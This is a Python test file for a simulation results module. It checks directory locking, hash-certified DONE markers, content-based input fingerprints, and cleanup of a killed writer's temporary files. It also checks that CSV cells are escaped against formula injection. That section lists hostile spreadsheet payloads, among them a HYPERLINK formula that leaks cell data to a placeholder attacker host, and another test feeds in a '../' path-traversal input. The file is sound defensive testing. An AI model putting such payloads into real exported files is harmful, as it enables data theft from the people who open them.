"""Issue 20 (#4, #5, #6, #14): run and sweep directories have one writer, DONE certifies
its files by hash, inputs are known by content, CSV cells are never formulas, and the
temporary files of killed writers go on the next start."""

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap

import pytest

from viralsim import results as res

SRC = os.path.dirname(os.path.dirname(os.path.abspath(res.__file__)))


def _holder(directory):
    """A second process that takes ``directory``'s lock and waits (killed by the test)."""
    code = textwrap.dedent(f"""
        import sys, time
        sys.path.insert(0, {SRC!r})
        from viralsim import results as res
        res.acquire_lock({os.fspath(directory)!r}, "run")
        print("locked", flush=True)
        time.sleep(120)
    """)
    p = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "locked"
    return p


def _kill(p):
    p.send_signal(signal.SIGKILL)
    p.wait()
    p.stdout.close()


# ------------------------------------------------------------------- #4 one writer
def test_a_second_process_is_refused_with_the_holder_named_and_a_kill_leaves_no_stale_lock(
        tmp_path):
    p = _holder(tmp_path)
    try:
        with pytest.raises(res.DirectoryLocked) as err:
            with res.lock_dir(tmp_path):
                pytest.fail("two writers in one directory")
        msg = str(err.value)
        assert "\n" not in msg and str(tmp_path) in msg and f"process {p.pid}" in msg
        assert "hydra.run.dir" in msg
        # the refused process must not unmark, or mark failed, the holder's directory
        (tmp_path / "results.csv").write_text("a\n1\n")
        res.mark_done(str(tmp_path), {"rng_seed": 1})
        res.clear_done(str(tmp_path))
        res.mark_failed(str(tmp_path), "refused")
        assert res.is_done(str(tmp_path), {"rng_seed": 1}) and res.failure(str(tmp_path)) is None
    finally:
        _kill(p)
    with res.lock_dir(tmp_path):  # kill -9 released it
        assert res.holds_lock(tmp_path)
    assert not res.holds_lock(tmp_path)


def test_the_same_thread_may_nest_another_thread_may_not(tmp_path):
    import threading

    seen = []
    with res.lock_dir(tmp_path, "sweep"):
        with res.lock_dir(tmp_path):  # a job of an in-process sweep writing into its directory
            pass
        assert res.holds_lock(tmp_path)

        def other():
            try:
                res.acquire_lock(tmp_path)
            except res.DirectoryLocked as exc:
                seen.append(str(exc))

        t = threading.Thread(target=other)
        t.start()
        t.join()
    assert len(seen) == 1 and "another thread" in seen[0]
    assert not res.holds_lock(tmp_path)


def test_done_certifies_exactly_the_files_beside_it(tmp_path):
    """The race of the issue: a second writer's table replaces the first's after (or
    before) DONE. A marker must not vouch for a file it did not hash."""
    d = str(tmp_path / "0")
    res.write_text(os.path.join(d, "config.yaml"), "rng_seed: 1\n")
    res.write_table([{"rng_seed": 1, "mean": 1.897}], os.path.join(d, "results.csv"), parquet=False)
    res.write_text(os.path.join(d, "report.md"), "# seed 1\n")
    res.mark_done(d, {"rng_seed": 1}, ["results.csv", "report.md"])
    marker = json.loads((tmp_path / "0" / "DONE").read_text())
    assert set(marker["sha256"]) == {"config.yaml", "results.csv", "report.md"}
    assert res.is_done(d, {"rng_seed": 1})
    # another run's numbers land beside the marker: not done any more (resume re-runs it)
    res.write_table([{"rng_seed": 2, "mean": 3.471}], os.path.join(d, "results.csv"), parquet=False)
    assert not res.is_done(d) and not res.is_done(d, {"rng_seed": 1})
    rows, missing = res.merge_sweep(str(tmp_path))
    assert rows == [] and missing == ["0"]
    res.mark_done(d, {"rng_seed": 2}, ["results.csv", "report.md"])
    assert res.is_done(d, {"rng_seed": 2})
    os.remove(tmp_path / "0" / "report.md")  # a certified file gone
    assert not res.is_done(d)
    res.mark_done(d, {"rng_seed": 2}, ["results.csv"])
    (tmp_path / "0" / "meta.json").write_text("{}")  # a standard file it does not certify
    assert not res.is_done(d)


def test_a_marker_without_hashes_certifies_nothing(tmp_path):
    (tmp_path / "results.csv").write_text("a\n1\n")
    res.write_json(str(tmp_path / res.DONE), {"config_hash": res.config_hash({}), "files": []})
    assert not res.is_done(str(tmp_path)) and not res.is_done(str(tmp_path), {})


def test_a_marker_certifies_only_files_inside_its_directory(tmp_path):
    (tmp_path / "outside.txt").write_text("x")
    with pytest.raises(FileNotFoundError, match="not a file inside"):
        res.mark_done(str(tmp_path / "run"), {}, ["../outside.txt"])


def test_app_run_into_a_directory_another_run_holds_is_refused(tmp_path):
    pytest.importorskip("hydra")
    from hydra import compose, initialize_config_module

    from viralsim import app

    with initialize_config_module("viralsim.conf", version_base="1.3"):
        cfg = compose("config", overrides=["graph.n_nodes=300", "n_sims=200", "formats=[png]"])
    p = _holder(tmp_path)
    try:
        with pytest.raises(res.DirectoryLocked):
            app.run(cfg, str(tmp_path), quiet=True)
        assert not (tmp_path / "config.yaml").exists() and not (tmp_path / "results.csv").exists()
    finally:
        _kill(p)


# ------------------------------------------------------------ #5 inputs by content
def test_an_input_edited_to_the_same_size_and_time_is_a_changed_input(tmp_path):
    f = tmp_path / "edges.txt"
    f.write_text("a b\nb c\n")
    st = os.stat(f)
    cfg = {"graph": {"path": str(f)}, "rng_seed": 0}
    before = res.input_fingerprints(cfg)
    f.write_text("a c\nb c\n")  # same size
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))  # time put back
    assert os.stat(f).st_size == st.st_size and os.stat(f).st_mtime_ns == st.st_mtime_ns
    after = res.input_fingerprints(cfg)
    assert before != after
    assert res.config_hash(dict(cfg, _input_files=before)) != res.config_hash(
        dict(cfg, _input_files=after))


# ------------------------------------------------------- #6 no formulas in CSV cells
HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1)", "-2+3",
           "@SUM(1)", "\t=1", "\r=1", "'=1", "=evil.csv", "-1 2"]


def test_csv_cells_are_never_formulas_and_read_back_exactly(tmp_path):
    rows = [{"plan": h, "seeds": [h, "b"], "mean": -1.5, "k": -3, "rng_seed": "=HYPERLINK(1)"}
            for h in HOSTILE]
    rows.append({"=col": "x", "plan": "-0.25", "mean": float("-inf")})
    path = tmp_path / "results.csv"
    res.write_table(rows, path, parquet=False)
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for r in csv.reader(fh) for c in r]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                 or (c[:1] == "-" and c not in ("-1.5", "-3", "-0.25", "-inf"))]
    assert dangerous == []
    back = res.read_table(path)
    assert [r["plan"] for r in back[:-1]] == HOSTILE
    assert [r["seeds"] for r in back[:-1]] == [f"{h} b" for h in HOSTILE]
    assert back[0]["mean"] == -1.5 and back[0]["k"] == -3 and back[0]["rng_seed"] == "=HYPERLINK(1)"
    assert back[-1]["=col"] == "x" and back[-1]["plan"] == -0.25 and back[-1]["mean"] == float("-inf")


def test_merged_sweep_table_stays_safe(tmp_path):
    for j in (0, 1):
        d = tmp_path / str(j)
        res.write_text(d / "config.yaml", "x: 1\n")
        res.write_table([{"plan": "=1+2", "mean": float(j)}], d / "results.csv", parquet=False)
        res.mark_done(str(d), {"j": j})
    rows, missing = res.merge_sweep(str(tmp_path), out=tmp_path / "results.csv")
    assert missing == [] and [r["plan"] for r in rows] == ["=1+2", "=1+2"]
    text = (tmp_path / "results.csv").read_text()
    assert ",=1+2" not in text and ",'=1+2" in text


# -------------------------------------------- #14 temporary files of killed writers
def test_temporary_files_of_a_killed_writer_go_when_the_directory_is_next_locked(tmp_path):
    code = textwrap.dedent(f"""
        import os, sys
        sys.path.insert(0, {SRC!r})
        from viralsim import results as res
        with res.atomic_write(os.path.join({str(tmp_path)!r}, "results.csv")) as fh:
            fh.write("half a table")
            fh.flush()
            os.kill(os.getpid(), 9)
    """)
    subprocess.run([sys.executable, "-c", code], check=False)
    (tmp_path / ".keep.tmp").write_text("not ours")  # not atomic_write's name pattern
    (tmp_path / "notes.abcdefabcdef.tmp").write_text("not hidden: not ours")
    left = sorted(n for n in os.listdir(tmp_path) if n.startswith(".results.csv."))
    assert len(left) == 1
    with res.lock_dir(tmp_path):
        assert not [n for n in os.listdir(tmp_path) if n.startswith(".results.csv.")]
    assert (tmp_path / ".keep.tmp").exists() and (tmp_path / "notes.abcdefabcdef.tmp").exists()
